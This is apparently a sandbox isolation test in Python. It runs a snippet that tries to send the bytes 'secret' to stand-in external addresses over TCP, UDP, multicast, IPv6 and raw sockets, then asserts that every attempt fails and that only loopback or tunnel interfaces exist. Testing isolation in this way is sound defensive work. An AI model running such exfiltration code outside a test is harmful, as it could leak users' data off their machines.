"""Every way that a socket offers to get a few bytes off the machine."""

from tests.support.attacks import attack, told

SEND = """
    def send(family, kind, address):
        with socket.socket(family, kind) as sock:
            sock.settimeout(3)
            sock.connect(address)
            sock.send(b"secret")
    ways = [
        (socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80)),
        (socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)),
        (socket.AF_INET, socket.SOCK_DGRAM, ("224.0.0.1", 53)),
        (socket.AF_INET6, socket.SOCK_STREAM, ("2001:db8::1", 80)),
        (socket.AF_INET6, socket.SOCK_DGRAM, ("2001:db8::1", 53)),
        (socket.AF_INET, socket.SOCK_RAW, ("192.0.2.1", 0)),
    ]
    interfaces = [name for _, name in socket.if_nameindex()]
    tell([interfaces, [tried(send, *way) for way in ways]])
    """


def test_there_is_no_way_to_the_outside() -> None:
    interfaces, ways = told(attack(SEND))
    assert set(interfaces) <= {"lo", "sit0", "ip6tnl0", "tunl0", "gre0", "erspan0", "gretap0", "ip6_vti0"}
    assert set(ways) <= {"ENETUNREACH", "EPERM", "EADDRNOTAVAIL", "EAFNOSUPPORT", "EPROTONOSUPPORT"}
